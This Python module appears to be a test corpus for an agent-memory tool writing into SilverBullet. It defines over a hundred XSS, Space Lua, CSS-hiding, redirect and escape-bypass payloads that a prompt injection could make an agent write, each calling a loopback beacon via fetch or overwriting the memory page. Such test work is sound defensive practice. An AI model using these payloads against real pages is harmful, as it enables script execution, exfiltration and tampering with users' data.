"""Hostile texts an agent could be made to write, for the browser corpus (issue 16).

Each payload is what a prompt injection could put into one field of ``ocmem journal add`` or
``ocmem propose``. The driver (``drive.py``) writes it through the CLI, pushes it into a real
SilverBullet and opens the page in the real web client; nothing is clicked.

Every active payload reports itself uniquely, so a detection names the payload that caused it:

* JavaScript calls ``fetch('<beacon>/h/<id>')`` (``@JS@``);
* Space Lua calls ``js.window.fetch("<beacon>/h/<id>")`` (``@LUA@``), prints ``PWNED-<id>``
  built by concatenation (``@LUAS@``), shows it in a notification (``@LN@``) or writes the page
  ``Agents/Inbox/pwned-<id>`` (``@LW@``);
* CSS declares the selector ``.pwned-<id>``, loads ``<beacon>/c/<id>`` and fades the editor
  out (``@CSS@``);
* resources load ``<beacon>/l/<id>``; redirects go to ``<beacon>/r/<id>``.

The marker ``PWNED-<id>`` never appears contiguously in a payload's source: it only exists
once something evaluated the payload. ``@B@`` is the beacon's origin (another port of the
loopback interface, so another origin than SilverBullet), ``@H@`` its host and port, ``@ID@``
the payload id. A field's first line follows « Demande : » on the entry's list item, so a payload
that needs a block (list, quote, fence, HTML block) starts on the field's second line.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

JOURNAL_FIELDS = ("titre", "tags", "demande", "fait", "piege", "lecon", "resultat")
PROPOSAL_FIELDS = ("titre", "contenu", "contradiction", "remplace", "description", "name")

# Targets: the field the payload lives in ("journal.multi": spread over several fields).
TARGETS = (
    "journal.titre",
    "journal.tags",
    "journal.demande",
    "journal.fait",
    "journal.piege",
    "journal.lecon",
    "journal.resultat",
    "journal.multi",
    "pending.titre",
    "pending.contenu-fait",
    "pending.contenu-skill",
    "pending.contradiction",
    "pending.remplace",
    "pending.description",
    "pending.name",
)

MACROS = (
    ("@JS@", "fetch('@B@/h/@ID@')"),
    ("@LUAS@", 'js.window.fetch("@B@/h/@ID@") print("PWN".."ED-@ID@")'),
    ("@LUA@", 'js.window.fetch("@B@/h/@ID@")'),
    ("@LN@", 'editor.flashNotification("PWN".."ED-@ID@")'),
    ("@LW@", 'space.writePage("Agents/Inbox/pwned-@ID@", "x")'),
    (
        "@CSS@",
        ".pwned-@ID@{color:red} html{background-image:url(@B@/c/@ID@)} .cm-content{opacity:0}",
    ),
)


def expand(template: str, pid: str, beacon: str) -> str:
    """The payload text for one run: macros first, then the beacon origin and the id."""
    for name, value in MACROS:
        template = template.replace(name, value)
    host = beacon.split("://", 1)[-1]
    return template.replace("@B@", beacon).replace("@H@", host).replace("@ID@", pid)


@dataclass(frozen=True)
class Payload:
    id: str
    target: str
    kind: str
    fields: Mapping[str, object]  # templates, merged over the benign base entry or proposal
    failure: str  # what failure looks like
    proposal_type: str = "fait"
    notes: tuple[str, ...] = field(default=())

    @property
    def page(self) -> str:
        return "journal" if self.target.startswith("journal.") else "pending"

    def journal_fields(self, beacon: str) -> dict[str, object]:
        return _render(BASE_JOURNAL, self.fields, self.id, beacon)

    def proposal_fields(self, beacon: str) -> dict[str, object]:
        base = BASE_SKILL if self.proposal_type == "skill" else BASE_FACT
        return _render(base, self.fields, self.id, beacon)


def _render(
    base: Mapping[str, object], fields: Mapping[str, object], pid: str, beacon: str
) -> dict[str, object]:
    out: dict[str, object] = {}
    for key, value in {**base, **fields}.items():
        if isinstance(value, str):
            out[key] = expand(value, pid, beacon)
        elif isinstance(value, list):
            out[key] = [expand(v, pid, beacon) if isinstance(v, str) else v for v in value]
        else:
            out[key] = value
    return out


BASE_JOURNAL: Mapping[str, object] = {
    "titre": "Vérifier le rendu de la page",
    "tags": ["rendu"],
    "demande": "vérifier le rendu de la boîte de réception",
    "fait": "ouvert la page dans le navigateur",
    "piege": "aucun piège notable",
    "lecon": "le rendu se vérifie page ouverte",
    "resultat": "réussi",
}
BASE_FACT: Mapping[str, object] = {
    "type": "fait",
    "titre": "Le serveur de recette écoute sur le port 3000",
    "contenu": "Le serveur de recette écoute sur le port 3000.",
    "contradiction": "aucune",
    "remplace": "rien",
}
BASE_SKILL: Mapping[str, object] = {
    "type": "skill",
    "titre": "Relancer le serveur de recette",
    "contenu": "# Relancer la recette\n\n1. Arrêter le service.\n2. Le relancer.",
    "contradiction": "aucune",
    "remplace": "rien",
    "name": "relancer-recette",
    "description": "Relance le serveur de recette.",
}

PAYLOADS: list[Payload] = []


def _add(
    pid: str,
    target: str,
    kind: str,
    fields: Mapping[str, object],
    failure: str,
    proposal_type: str = "fait",
) -> None:
    assert target in TARGETS, target
    assert all(p.id != pid for p in PAYLOADS), pid
    PAYLOADS.append(Payload(pid, target, kind, dict(fields), failure, proposal_type))


def J(pid: str, name: str, kind: str, text: object, failure: str, **more: object) -> None:
    """A journal payload in field ``name`` (other fields may be set too)."""
    _add(pid, f"journal.{name}", kind, {name: text, **more}, failure)


def JM(pid: str, kind: str, fields: Mapping[str, object], failure: str) -> None:
    _add(pid, "journal.multi", kind, fields, failure)


def P(pid: str, name: str, kind: str, text: object, failure: str, skill: bool = False) -> None:
    """A proposal payload in field ``name``; ``contenu`` targets name the proposal type."""
    target = name
    if name == "contenu":
        target = "contenu-skill" if skill else "contenu-fait"
    if name in ("description", "name"):
        skill = True
    _add(pid, f"pending.{target}", kind, {name: text}, failure, "skill" if skill else "fait")


RUN_JS = "JavaScript runs when the page opens (beacon /h/<id>)"
RUN_LUA = "Space Lua runs when the page opens (beacon /h/<id>, PWNED-<id>)"
LOADS = "the page loads a resource from another origin (beacon /l/<id>)"
STYLE = "agent CSS applies space-wide (selector .pwned-<id>, beacon /c/<id>, editor faded out)"
SWALLOW = "the human's later lines are swallowed (hidden or shown inside the agent's element)"

# --- raw HTML with event handlers ---------------------------------------------------------
J("jt-img", "titre", "html-event", """Note <img src=x onerror="@JS@">""", RUN_JS)
J("jt-img-uq", "titre", "html-event", "<img src=x onerror=@JS@>", RUN_JS)
J("jt-details", "titre", "html-event", """<details open ontoggle="@JS@">""", RUN_JS)
J("jt-input", "titre", "html-event", """<input autofocus onfocus="@JS@">""", RUN_JS)
J("jt-svg", "titre", "html-event", """<svg><set onbegin="@JS@" attributeName=x>""", RUN_JS)
J("jd-img", "demande", "html-event", """voir <img src=x onerror="@JS@"> ici""", RUN_JS)
J(
    "jd-img-block",
    "demande",
    "html-event",
    """voir ci-dessous\n<img src=x onerror="@JS@">""",
    RUN_JS,
)
J("jf-video", "fait", "html-event", """<video src=x onerror="@JS@"></video>""", RUN_JS)
J("jf-audio", "fait", "html-event", """lu <audio src=x onerror="@JS@"></audio> fin""", RUN_JS)
J(
    "jp-svg-anim",
    "piege",
    "html-event",
    """<svg><animate onbegin="@JS@" attributeName=x dur=1s></animate></svg>""",
    RUN_JS,
)
J(
    "jl-details",
    "lecon",
    "html-event",
    """rien\n<details open ontoggle="@JS@"><summary>x</summary></details>""",
    RUN_JS,
)
J("jf-input-block", "fait", "html-event", """fait\n<input autofocus onfocus="@JS@">""", RUN_JS)
J("jp-marquee", "piege", "html-event", """<marquee onstart="@JS@">défile</marquee>""", RUN_JS)
J("jl-style-onload", "lecon", "html-event", """<style onload="@JS@"></style>""", RUN_JS)
J(
    "jd-link-onerror",
    "demande",
    "html-event",
    """<link rel="stylesheet" href="x:y" onerror="@JS@">""",
    RUN_JS,
)
J("jf-body-onload", "fait", "html-event", """<body onload="@JS@">""", RUN_JS)
J("jf-svg-onload", "fait", "html-event", """<svg onload="@JS@"></svg>""", RUN_JS)
J("jp-script", "piege", "html-event", "<script>@JS@</script>", RUN_JS)
J("jp-script-block", "piege", "html-event", "vu\n<script>@JS@</script>", RUN_JS)
J(
    "jl-table-img",
    "lecon",
    "html-event",
    """tableau\n| a | b |\n|---|---|\n| <img src=x onerror="@JS@"> | 2 |""",
    RUN_JS,
)
J("jd-quote-img", "demande", "html-event", """cité\n> <img src=x onerror="@JS@">""", RUN_JS)
J("jf-li-img", "fait", "html-event", """liste\n- <img src=x onerror="@JS@">""", RUN_JS)
J(
    "jp-img-entity-js",
    "piege",
    "entity",
    """<img src=x onerror="&#102;etch('@B@/h/@ID@')">""",
    "JavaScript hidden behind a character reference in an attribute runs",
)
J("jl-img-upper", "lecon", "html-event", """<IMG SRC=x ONERROR="@JS@">""", RUN_JS)
J(
    "jd-img-slash",
    "demande",
    "html-event",
    """<img/src=x/onerror="@JS@">""",
    RUN_JS,
)
J("jf-img-selfclose", "fait", "html-event", """<img src=x onerror="@JS@" />""", RUN_JS)
J(
    "jp-div-onmouse",
    "piege",
    "html-event",
    """<div style="position:fixed;inset:0" onmouseover="@JS@">x</div>""",
    "a full-page element runs JavaScript when the pointer moves (and hides the page)",
)
P("pt-img", "titre", "html-event", """Fait <img src=x onerror="@JS@">""", RUN_JS)
P(
    "pt-svg",
    "titre",
    "html-event",
    """<svg><animate onbegin="@JS@" attributeName=x dur=1s>""",
    RUN_JS,
)
P("pt-input", "titre", "html-event", """<input autofocus onfocus="@JS@">""", RUN_JS)
P("pc-img", "contradiction", "html-event", """<img src=x onerror="@JS@">""", RUN_JS)
P("pc-details", "contradiction", "html-event", """<details open ontoggle="@JS@">""", RUN_JS)
P("pr-img", "remplace", "html-event", """ancien <img src=x onerror="@JS@">""", RUN_JS)
P("pr-video", "remplace", "html-event", """<video src=x onerror="@JS@"></video>""", RUN_JS)
P("pd-img", "description", "html-event", """Relance <img src=x onerror="@JS@">""", RUN_JS)
P("pd-input", "description", "html-event", """<input autofocus onfocus="@JS@">""", RUN_JS)
P(
    "pcf-img",
    "contenu",
    "html-event",
    """Le port <img src=x onerror="@JS@"> est libre.""",
    "the fenced proposed content runs (expected inert: it sits in ocmem's fence)",
)
P(
    "pcs-img",
    "contenu",
    "html-event",
    """# Étapes\n\n<img src=x onerror="@JS@">\n\n1. Relancer.""",
    "the fenced proposed skill runs (expected inert: it sits in ocmem's fence)",
    skill=True,
)

# --- javascript: and data: URLs -------------------------------------------------------------
J("jd-iframe-js", "demande", "html-url", """<iframe src="javascript:@JS@"></iframe>""", RUN_JS)
J(
    "jf-iframe-srcdoc",
    "fait",
    "html-url",
    """<iframe srcdoc="&lt;script&gt;@JS@&lt;/script&gt;"></iframe>""",
    "a srcdoc frame (same origin as SilverBullet) runs JavaScript",
)
J(
    "jp-iframe-data",
    "piege",
    "html-url",
    """<iframe src="data:text/html,&lt;script&gt;@JS@&lt;/script&gt;"></iframe>""",
    RUN_JS,
)
J("jl-object-js", "lecon", "html-url", """<object data="javascript:@JS@"></object>""", RUN_JS)
J(
    "jd-embed-data",
    "demande",
    "html-url",
    """<embed src="data:text/html,&lt;script&gt;@JS@&lt;/script&gt;">""",
    RUN_JS,
)
J(
    "jf-md-link-js",
    "fait",
    "latent-link",
    "[ouvrir la doc](javascript:@JS@)",
    "a javascript: link is rendered clickable (latent: nothing is clicked)",
)
J(
    "jp-a-js",
    "piege",
    "latent-link",
    """<a href="javascript:@JS@">doc</a>""",
    "a javascript: link is rendered clickable (latent: nothing is clicked)",
)
J(
    "jl-autolink-js",
    "lecon",
    "latent-link",
    "<javascript:@JS@>",
    "a javascript: autolink is rendered clickable (latent)",
)
J(
    "jd-md-img-js",
    "demande",
    "html-url",
    "![x](javascript:@JS@)",
    RUN_JS,
)
J(
    "jf-md-img-data-svg",
    "fait",
    "html-url",
    "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='@JS@'/%3E)",
    RUN_JS,
)
P("pt-iframe-js", "titre", "html-url", """<iframe src="javascript:@JS@"></iframe>""", RUN_JS)
P(
    "pc-iframe-srcdoc",
    "contradiction",
    "html-url",
    """<iframe srcdoc="&lt;img src=x onerror=@JS@&gt;"></iframe>""",
    RUN_JS,
)
P(
    "pr-md-link-js",
    "remplace",
    "latent-link",
    "[ancien](javascript:@JS@)",
    "clickable javascript: link (latent)",
)

# --- loads from another origin ------------------------------------------------------------------
J("jt-md-img", "titre", "md-load", "Capture ![](@B@/l/@ID@.png)", LOADS)
J("jd-html-img", "demande", "html-load", """<img src="@B@/l/@ID@.png">""", LOADS)
J("jf-md-img", "fait", "md-load", "capture : ![écran](@B@/l/@ID@.png)", LOADS)
J("jp-md-img-ref", "piege", "md-load", "voir ![écran][c]\n\n[c]: @B@/l/@ID@.png", LOADS)
J("jl-link-css", "lecon", "html-load", """<link rel="stylesheet" href="@B@/l/@ID@.css">""", LOADS)
J("jd-video-poster", "demande", "html-load", """<video poster="@B@/l/@ID@.png"></video>""", LOADS)
J("jf-svg-image", "fait", "html-load", """<svg><image href="@B@/l/@ID@.png"/></svg>""", LOADS)
J("jp-style-import", "piege", "html-load", "<style>@import url(@B@/l/@ID@.css);</style>", LOADS)
J(
    "jl-style-import-rel",
    "lecon",
    "html-load",
    "<style>@import url(//@H@/l/@ID@.css);</style>",
    LOADS + " (no scheme, so no autolink spoils the CSS)",
)
J(
    "jl-style-attr-bg",
    "lecon",
    "html-load",
    """<span style="background:url(@B@/l/@ID@.png)">fond</span>""",
    LOADS,
)
J("jd-iframe-src", "demande", "html-load", """<iframe src="@B@/l/@ID@"></iframe>""", LOADS)
J("jf-object-data", "fait", "html-load", """<object data="@B@/l/@ID@"></object>""", LOADS)
J("jp-embed-src", "piege", "html-load", """<embed src="@B@/l/@ID@">""", LOADS)
J(
    "jl-picture",
    "lecon",
    "html-load",
    """<picture><source srcset="@B@/l/@ID@.png"><img></picture>""",
    LOADS,
)
J("jd-img-srcset", "demande", "html-load", """<img srcset="@B@/l/@ID@.png 1x">""", LOADS)
J("jf-wiki-img-url", "fait", "md-load", "![[@B@/l/@ID@.png]]", LOADS)
J("jp-wiki-transclude", "piege", "md-load", "![[Agents/Memory/MEMORY]]", "transcludes another page")
J("jl-md-img-title", "lecon", "md-load", """![a](@B@/l/@ID@.png "titre")""", LOADS)
J("jd-md-img-angle", "demande", "md-load", "![a](<@B@/l/@ID@.png>)", LOADS)
J("jf-md-img-quote", "fait", "md-load", "cité\n> ![a](@B@/l/@ID@.png)", LOADS)
J("jp-md-img-li", "piege", "md-load", "liste\n- ![a](@B@/l/@ID@.png)", LOADS)
J("jl-md-img-table", "lecon", "md-load", "t\n| a |\n|---|\n| ![a](@B@/l/@ID@.png) |", LOADS)
J("jd-md-img-proto-rel", "demande", "md-load", "![a](//127.0.0.2:9/l/@ID@.png)", LOADS)
P("pt-md-img", "titre", "md-load", "Schéma ![](@B@/l/@ID@.png)", LOADS)
P("pc-md-img", "contradiction", "md-load", "voir ![](@B@/l/@ID@.png)", LOADS)
P("pr-html-img", "remplace", "html-load", """<img src="@B@/l/@ID@.png">""", LOADS)
P("pd-md-img", "description", "md-load", "Relance ![](@B@/l/@ID@.png) le service.", LOADS)
P("pcf-md-img", "contenu", "md-load", "Le schéma ![](@B@/l/@ID@.png) est à jour.", LOADS)

# --- redirects ----------------------------------------------------------------------------------
REDIRECT = "the tab leaves the page (beacon /r/<id> or another page)"
J(
    "jf-meta-refresh",
    "fait",
    "redirect",
    """<meta http-equiv="refresh" content="0;url=@B@/r/@ID@">""",
    REDIRECT,
)
J(
    "jt-meta",
    "titre",
    "redirect",
    """<meta http-equiv=refresh content="0;url=@B@/r/@ID@">""",
    REDIRECT,
)
J(
    "jl-base-href",
    "lecon",
    "redirect",
    """<base href="@B@/b/@ID@/">""",
    "relative URLs now resolve to another origin",
)
J(
    "jd-lua-navigate",
    "demande",
    "redirect",
    "voir `x\ny` ${editor.navigate('Agents/Inbox/pwned-nav-@ID@')} `",
    "Space Lua navigates the tab to another page",
)
P(
    "pc-meta-refresh",
    "contradiction",
    "redirect",
    """<meta http-equiv="refresh" content="0;url=@B@/r/@ID@">""",
    REDIRECT,
)
P(
    "pd-meta-refresh",
    "description",
    "redirect",
    """<meta http-equiv="refresh" content="1;url=@B@/r/@ID@">""",
    REDIRECT,
)

# --- inline <style> and hiding --------------------------------------------------------------------
J("jt-style", "titre", "html-style", "<style>.pwned-@ID@,.cm-line{opacity:0}</style>", STYLE)
J(
    "jf-style-block",
    "fait",
    "html-style",
    "fait\n<style>.pwned-@ID@,body{display:none}</style>",
    STYLE,
)
J(
    "jp-style-inline",
    "piege",
    "html-style",
    "vu <style>.pwned-@ID@,.cm-content{visibility:hidden}</style> fin",
    STYLE,
)
J(
    "jl-overlay",
    "lecon",
    "html-style",
    """<div class="pwned-@ID@" style="position:fixed;inset:0;background:#fff;z-index:99">ok</div>""",
    "a full-page element covers the human's text",
)
P("pt-style", "titre", "html-style", "<style>.pwned-@ID@,.cm-line{opacity:0}</style>", STYLE)
P("pr-style", "remplace", "html-style", "<style>.pwned-@ID@,body{display:none}</style>", STYLE)
P(
    "pd-style",
    "description",
    "html-style",
    "<style>.pwned-@ID@,.cm-content{color:transparent}</style>",
    STYLE,
)

# --- HTML blocks that swallow what follows ---------------------------------------------------------
J("jf-comment-open", "fait", "swallow", "fait\n<!-- début", SWALLOW)
J("jd-comment-inline", "demande", "swallow", "voir <!-- ici", SWALLOW)
J("jl-pre-open", "lecon", "swallow", "leçon\n<pre>", SWALLOW)
J("jp-div-open", "piege", "swallow", """piège\n<div class="pwned-@ID@">""", SWALLOW)
J("jl-div-last", "lecon", "swallow", """leçon\n<div>""", SWALLOW)
J("jf-textarea", "fait", "swallow", "fait\n<textarea>", SWALLOW)
J("jp-xmp", "piege", "swallow", "piège\n<xmp>", SWALLOW)
J("jl-noscript", "lecon", "swallow", "leçon\n<noscript>", SWALLOW)
J("jd-template", "demande", "swallow", "demande\n<template>", SWALLOW)
J("jf-details-open", "fait", "swallow", "fait\n<details>", SWALLOW)
J("jp-style-open", "piege", "swallow", "piège\n<style>", SWALLOW)
J("jl-cdata", "lecon", "swallow", "leçon\n<![CDATA[", SWALLOW)
J("jd-pi", "demande", "swallow", "demande\n<?php", SWALLOW)
J("jt-comment-open", "titre", "swallow", "Titre <!--", SWALLOW)
J("jt-div-open", "titre", "swallow", "<div>", SWALLOW)
P("pc-comment-open", "contradiction", "swallow", "<!-- jusqu'au bout", SWALLOW)
P("pr-pre-open", "remplace", "swallow", "<pre>", SWALLOW)
P("pd-div-open", "description", "swallow", "<div>Relance.", SWALLOW)
P("pt-textarea", "titre", "swallow", "<textarea>", SWALLOW)

# --- ${...}: controls where the escaping holds, and bypasses ------------------------------------------
J("jt-lua", "titre", "lua-directive", "Titre ${@LUA@}", RUN_LUA)
J("jd-lua", "demande", "lua-directive", "voir ${@LUA@}", RUN_LUA)
J("jf-lua-li", "fait", "lua-directive", "liste\n- ${@LUA@}", RUN_LUA)
J("jp-lua-quote", "piege", "lua-directive", "cité\n> ${@LUA@}", RUN_LUA)
J("jl-lua-table", "lecon", "lua-directive", "t\n| a |\n|---|\n| ${@LUA@} |", RUN_LUA)
J("jd-lua-heading", "demande", "lua-directive", "titre\n### ${@LUA@}", RUN_LUA)
J("jf-lua-linktext", "fait", "lua-directive", "[${@LUA@}](https://example.org)", RUN_LUA)
J("jp-lua-attr", "piege", "lua-directive", """<span title="${@LUA@}">x</span>""", RUN_LUA)
J("jl-lua-comment", "lecon", "lua-directive", "<!-- ${@LUA@} -->", RUN_LUA)
J("jd-lua-escaped", "demande", "lua-directive", "déjà échappé \\${@LUA@}", RUN_LUA)
J("jf-lua-dollar2", "fait", "lua-directive", "$${@LUA@}", RUN_LUA)
J("jp-lua-entity", "piege", "lua-directive", "&#36;{@LUA@}", RUN_LUA)
J(
    "jl-bt-attr",
    "lecon",
    "escape-bypass",
    """<span title="`">${@LUA@}<span title="`">""",
    RUN_LUA + " (backtick inside an HTML attribute)",
)
J(
    "jd-bt-autolink",
    "demande",
    "escape-bypass",
    "<http://a.example/`> ${@LUA@} <http://b.example/`>",
    RUN_LUA + " (backtick inside an autolink)",
)
J(
    "jf-bt-linkdest",
    "fait",
    "escape-bypass",
    "[a](http://a.example/`) ${@LUA@} [b](http://b.example/`)",
    RUN_LUA + " (backtick inside a link destination)",
)
J(
    "jp-bt-wikilink",
    "piege",
    "escape-bypass",
    "[[a`]] ${@LN@} [[b`]]",
    RUN_LUA + " (backtick inside a wiki link)",
)
J(
    "jl-bt-attribute",
    "lecon",
    "escape-bypass",
    "[x: `] ${@LW@} [y: `]",
    RUN_LUA + " (backtick inside an [attribute: …])",
)
J(
    "jd-codespan-split",
    "demande",
    "escape-bypass",
    "a ` b\nc ` ${@LUA@} `",
    RUN_LUA + " (code span split over two lines)",
)
J(
    "jf-codespan-split-ln",
    "fait",
    "escape-bypass",
    "début `` x\nfin `` ${@LN@} ``",
    RUN_LUA + " (double-backtick span split over two lines)",
)
JM(
    "jm-fence-split",
    "escape-bypass",
    {"fait": "voir\n```", "piege": "``` ${@LUA@}"},
    RUN_LUA + " (``` left open in one field, the next field starts with ```)",
)
JM(
    "jm-fence-split-tilde",
    "escape-bypass",
    {"demande": "voir\n~~~", "fait": "suite\n${@LUA@}\n~~~"},
    RUN_LUA + " (~~~ opened in one field, closed in the next)",
)
J(
    "jl-fence-in-div",
    "lecon",
    "escape-bypass",
    "leçon\n<div>\n```\n${@LUA@}\n```",
    RUN_LUA + " (a ``` line inside an HTML block)",
)
J(
    "jl-fence-in-div-open",
    "lecon",
    "escape-bypass",
    "leçon\n<div>\n```\n${@LUA@}",
    RUN_LUA + " (an unclosed ``` inside an HTML block: no code span closes it there)",
)
J(
    "jd-fence-in-quote",
    "demande",
    "escape-bypass",
    "cité\n> ```\n${@LUA@}\n> ```",
    RUN_LUA + " (a fence in a quote ends at the quote's end)",
)
J(
    "jf-fence-4sp",
    "fait",
    "escape-bypass",
    "code\n    ```\n${@LUA@}",
    RUN_LUA + " (a 4-space ``` is not a fence)",
)
J(
    "jp-bt-html-comment",
    "piege",
    "escape-bypass",
    "<!-- ` --> ${@LUA@} <!-- ` -->",
    RUN_LUA + " (backtick inside an HTML comment)",
)
J(
    "jl-bt-escaped",
    "lecon",
    "escape-bypass",
    "\\` ${@LUA@} `",
    RUN_LUA + " (escaped backtick opens no code span)",
)
P("pt-lua", "titre", "lua-directive", "Fait ${@LUA@}", RUN_LUA)
P("pc-lua", "contradiction", "lua-directive", "contredit ${@LUA@}", RUN_LUA)
P(
    "pc-bt-attr",
    "contradiction",
    "escape-bypass",
    """<span title="`">${@LUA@}<span title="`">""",
    RUN_LUA + " (backtick inside an HTML attribute)",
)
P(
    "pr-bt-autolink",
    "remplace",
    "escape-bypass",
    "<http://a.example/`> ${@LN@} <http://b.example/`>",
    RUN_LUA + " (backtick inside an autolink)",
)
P(
    "pd-bt-linkdest",
    "description",
    "escape-bypass",
    "Relance [a](http://a.example/`) ${@LUA@} [b](http://b.example/`)",
    RUN_LUA + " (backtick inside a link destination)",
)
P(
    "pt-bt-wikilink",
    "titre",
    "escape-bypass",
    "[[a`]] ${@LW@} [[b`]]",
    RUN_LUA + " (backtick inside a wiki link)",
)
P(
    "pcf-lua",
    "contenu",
    "lua-directive",
    "Le port ${@LUA@} est libre.",
    "fenced content evaluated (expected inert)",
)
P(
    "pcs-lua",
    "contenu",
    "lua-directive",
    "# Étapes\n\n1. Lancer ${@LUA@}\n2. Vérifier.",
    "fenced skill evaluated (expected inert)",
    skill=True,
)

# --- space-lua / space-style fences --------------------------------------------------------------
J("jf-sl-plain", "fait", "space-lua", "code\n```space-lua\n@LUAS@\n```", RUN_LUA)
J(
    "jd-sl-li",
    "demande",
    "space-lua",
    "liste\n- ```space-lua\n  @LUAS@\n  ```",
    RUN_LUA + " (fence in a list item)",
)
J(
    "jp-sl-quote",
    "piege",
    "space-lua",
    "cité\n> ```space-lua\n> @LUAS@\n> ```",
    RUN_LUA + " (fence in a quote)",
)
J(
    "jl-sl-tab",
    "lecon",
    "space-lua",
    "code\n\t```space-lua\n\t@LUAS@\n\t```",
    RUN_LUA + " (fence after a tab)",
)
J("jf-sl-tilde", "fait", "space-lua", "code\n~~~space-lua\n@LUAS@\n~~~", RUN_LUA)
J("jd-sl-info", "demande", "space-lua", "code\n``` space-lua\n@LUAS@\n```", RUN_LUA)
J("jp-sl-4sp", "piege", "space-lua", "code\n    ```space-lua\n    @LUAS@\n    ```", RUN_LUA)
J(
    "jl-sl-li-ordered",
    "lecon",
    "space-lua",
    "code\n1. ```space-lua\n   @LUAS@\n   ```",
    RUN_LUA + " (fence in an ordered item)",
)
J(
    "jd-sl-li-quote",
    "demande",
    "space-lua",
    "code\n> - ```space-lua\n>   @LUAS@\n>   ```",
    RUN_LUA + " (fence in a list inside a quote)",
)
J(
    "jf-sl-cr",
    "fait",
    "space-lua",
    "code\r```space-lua\r@LUAS@\r```",
    RUN_LUA + " (lines separated by a bare carriage return)",
)
J(
    "jp-sl-ls",
    "piege",
    "space-lua",
    "code\u2028```space-lua\u2028@LUAS@\u2028```",
    RUN_LUA + " (lines separated by U+2028)",
)
J(
    "jl-ss-li",
    "lecon",
    "space-style",
    "liste\n- ```space-style\n  @CSS@\n  ```",
    STYLE + " (fence in a list item)",
)
J(
    "jd-ss-quote",
    "demande",
    "space-style",
    "cité\n> ```space-style\n> @CSS@\n> ```",
    STYLE + " (fence in a quote)",
)
J(
    "jf-ss-tab",
    "fait",
    "space-style",
    "style\n\t```space-style\n\t@CSS@\n\t```",
    STYLE + " (fence after a tab)",
)
J("jp-ss-plain", "piege", "space-style", "style\n```space-style\n@CSS@\n```", STYLE)
J(
    "jl-ss-break-out",
    "lecon",
    "space-style",
    """style\n- ```space-style\n  </style><img src=x onerror="@JS@">\n  ```""",
    "a space-style closes its <style> element and runs JavaScript",
)
J(
    "jd-sc-li",
    "demande",
    "space-lua",
    "config\n- ```space-config\n  x: 1\n  ```",
    "a space-config block is taken as configuration",
)
P(
    "pcs-sl",
    "contenu",
    "space-lua",
    "# Étapes\n\n```space-lua\n@LUAS@\n```",
    "a space-lua fence inside ocmem's fence runs (expected inert)",
    skill=True,
)
P(
    "pcs-fence-escape",
    "contenu",
    "space-lua",
    "# Étapes\n\n~~~\n\n```space-lua\n@LUAS@\n```\n\n~~~~~",
    "the content closes ocmem's fence and runs space-lua (expected inert)",
    skill=True,
)

# --- hashtag + attribute lines, tags ----------------------------------------------------------------
HASH_LUA = "#space-lua [script: 'js.window.fetch(\"@B@/h/@ID@\")']"
HASH_STYLE = "#space-style [style: 'html{background-image:url(@B@/c/@ID@)} .pwned-@ID@{color:red}']"
J(
    "jd-hash-lua",
    "demande",
    "hashtag-attr",
    HASH_LUA,
    RUN_LUA + " (an item tagged space-lua with a script attribute)",
)
J(
    "jf-hash-lua-para",
    "fait",
    "hashtag-attr",
    "note\n\n" + HASH_LUA,
    RUN_LUA + " (a paragraph tagged space-lua)",
)
J("jp-hash-style", "piege", "hashtag-attr", HASH_STYLE, STYLE + " (an item tagged space-style)")
J(
    "jt-tag-space-lua",
    "titre",
    "tag",
    "[script: 'js.window.fetch(\"@B@/h/@ID@\")']",
    RUN_LUA + " (entry tagged space-lua, script attribute in its title)",
    tags=["space-lua"],
)
J(
    "jt-tag-ss",
    "titre",
    "tag",
    "[style: 'html{background-image:url(@B@/c/@ID@)}']",
    STYLE + " (entry tagged space-style)",
    tags=["space-style"],
)
J(
    "jg-meta-template",
    "tags",
    "tag",
    ["rendu", "meta/template"],
    "turns off the human's ${...} widgets",
)
J("jg-template", "tags", "tag", ["template"], "turns off the human's ${...} widgets")
J("jg-meta", "tags", "tag", ["meta"], "the page becomes a meta page")
J("jg-space-lua", "tags", "tag", ["space-lua"], "the entry is indexed as a space-lua object")
J(
    "jl-hash-template",
    "lecon",
    "tag",
    "voir #meta/template",
    "a hashtag turns off the human's ${...} widgets",
)
P(
    "pc-hash-lua",
    "contradiction",
    "hashtag-attr",
    HASH_LUA,
    RUN_LUA + " (contradiction tagged space-lua)",
)
P(
    "pr-hash-template",
    "remplace",
    "tag",
    "#meta/template",
    "a hashtag turns off the human's ${...} widgets",
)
P("pd-hash-style", "description", "hashtag-attr", HASH_STYLE, STYLE)
P(
    "pd-hash-style-js",
    "description",
    "hashtag-attr",
    """#space-style [style: '</style><img src=x onerror="@JS@">']""",
    "a space-style attribute closes SilverBullet's <style> element and runs JavaScript",
)
P(
    "pc-hash-lua-write",
    "contradiction",
    "hashtag-attr",
    """#space-lua [script: 'space.writePage("Agents/Memory/MEMORY", "x")']""",
    "a space-lua attribute overwrites the human's validated memory",
)
P(
    "pt-hash-lua",
    "titre",
    "hashtag-attr",
    "Fait [script: 'js.window.fetch(\"@B@/h/@ID@\")'] #space-lua",
    RUN_LUA,
)

# --- baked sections ------------------------------------------------------------------------------------
J(
    "jd-baked",
    "demande",
    "baked",
    "voir\n<!--#lua @LUA@ -->\nx\n<!--/lua-->",
    "a baked section (run by « Baked Sections: Update »)",
)
J("jf-baked-space", "fait", "baked", "voir\n<!-- #lua @LUA@ -->", "a baked-section marker variant")
P(
    "pc-baked",
    "contradiction",
    "baked",
    "<!--#lua @LUA@ -->",
    "a baked section marker in a proposal",
)

# --- entities, invisible characters -----------------------------------------------------------------
J("jd-entity-lt", "demande", "entity", """&lt;img src=x onerror="@JS@"&gt;""", RUN_JS)
J("jf-entity-num", "fait", "entity", """&#60;img src=x onerror="@JS@"&#62;""", RUN_JS)
J(
    "jp-entity-hex",
    "piege",
    "entity",
    """&#x3C;style&#x3E;.cm-line{opacity:0}&#x3C;/style&#x3E;""",
    STYLE,
)
J("jl-zwsp-lua", "lecon", "invisible", "voir $\u200b{@LUA@}", RUN_LUA)
J("jd-zwsp-fence", "demande", "invisible", "code\n\u200b```space-lua\n@LUAS@\n```", RUN_LUA)
J("jt-bidi", "titre", "invisible", "Titre \u202enepo\u202c ${@LUA@}", RUN_LUA)
J("jf-bom", "fait", "invisible", '\ufeff<img src=x onerror="@JS@">', RUN_JS)
J("jp-nbsp-fence", "piege", "invisible", "code\n\u00a0```space-lua\n@LUAS@\n```", RUN_LUA)
P("pt-zwj", "titre", "invisible", 'Fait \u200d<img src=x onerror="@JS@">', RUN_JS)

